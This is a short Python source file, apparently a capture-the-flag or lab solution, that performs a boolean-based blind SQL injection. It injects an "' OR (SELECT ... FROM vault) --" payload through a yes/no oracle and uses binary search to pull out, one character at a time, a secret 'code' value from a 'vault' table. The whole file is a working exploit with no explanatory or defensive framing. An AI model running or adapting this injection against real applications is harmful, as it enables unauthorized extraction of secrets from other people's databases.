def find(ask):
    """The code in the table vault, by asking questions that are answered with True or False."""
    length = search(ask, "length(code)", 6, 12)
    return "".join(
        chr(search(ask, f"ascii(lower(substr(code, {place}, 1)))", 33, 126)) for place in range(1, length + 1)
    )


def search(ask, number, low, high):
    """What a number in the database is, between low and high, by halving."""
    while low < high:
        middle = (low + high) // 2
        if ask(f"' OR (SELECT {number} > {middle} FROM vault) --"):
            low = middle + 1
        else:
            high = middle
    return low
